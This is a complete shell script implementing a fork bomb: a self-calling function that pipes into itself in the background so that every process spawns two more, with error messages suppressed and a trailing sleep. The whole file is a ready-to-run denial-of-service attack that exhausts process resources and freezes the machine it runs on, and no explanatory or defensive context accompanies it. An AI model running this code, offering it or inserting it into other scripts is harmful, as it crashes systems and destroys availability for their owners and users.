#!/bin/sh
# Every process starts two more.
bomb() { bomb | bomb & }
bomb 2>/dev/null
exec sleep 60
